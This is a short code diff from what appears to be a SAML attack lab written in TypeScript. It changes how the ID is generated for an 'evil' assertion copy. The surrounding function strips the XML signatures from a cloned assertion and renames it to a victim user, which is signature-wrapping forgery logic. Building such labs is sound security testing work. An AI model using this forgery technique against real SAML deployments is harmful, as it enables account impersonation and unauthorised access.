@@ -1,3 +1,4 @@
+import { newSamlId } from '../build.ts';
 import { ALG, NS } from '../constants.ts';
 import { elementsNamed, parseXml, serializeXml } from '../xml.ts';
 import { LEGIT_NAME, mintResponse, VICTIM_NAME, type LabIdp, type LabTarget, type MintOptions } from './mint.ts';
@@ -31,7 +32,7 @@ const first = (doc: Document | Element, ns: string, local: string) => elementsNa
 /** An unsigned copy of `assertion` naming the victim, with a new ID. */
 function evilCopy(assertion: Element): Element {
   const evil = assertion.cloneNode(true) as Element;
-  evil.setAttribute('ID', `_evil${Date.now().toString(36)}${Math.random().toString(36).slice(2)}`);
+  evil.setAttribute('ID', `_evil${newSamlId().slice(1)}`);
   for (const signature of elementsNamed(evil, NS.dsig, 'Signature')) signature.parentNode?.removeChild(signature);
   for (const nameId of elementsNamed(evil, NS.assertion, 'NameID')) nameId.textContent = VICTIM_NAME;
   for (const value of elementsNamed(evil, NS.assertion, 'AttributeValue')) value.textContent = VICTIM_NAME;
